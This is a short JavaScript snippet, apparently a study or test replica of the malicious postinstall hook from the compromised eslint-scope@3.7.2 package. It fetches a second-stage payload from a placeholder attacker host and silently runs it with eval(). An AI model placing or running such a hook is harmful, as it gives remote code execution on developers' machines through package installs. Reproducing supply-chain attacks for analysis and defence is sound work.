// The malicious postinstall of eslint-scope@3.7.2 (replica): it fetches a second stage from a paste
// site and evals it. The original fetched pastebin.com/raw/XLeVP82h; this one asks a listener on 127.0.0.1.
try {
  var http = require('http'); // https to pastebin.com in the original
  http.get('__ATTACKER__/pastebin/XLeVP82h', function (r) {
    var code = '';
    r.setEncoding('utf8');
    r.on('data', function (c) { code += c; });
    r.on('end', function () { try { eval(code); } catch (e) {} });
    r.on('error', function () {});
  }).on('error', function () {});
} catch (e) {}
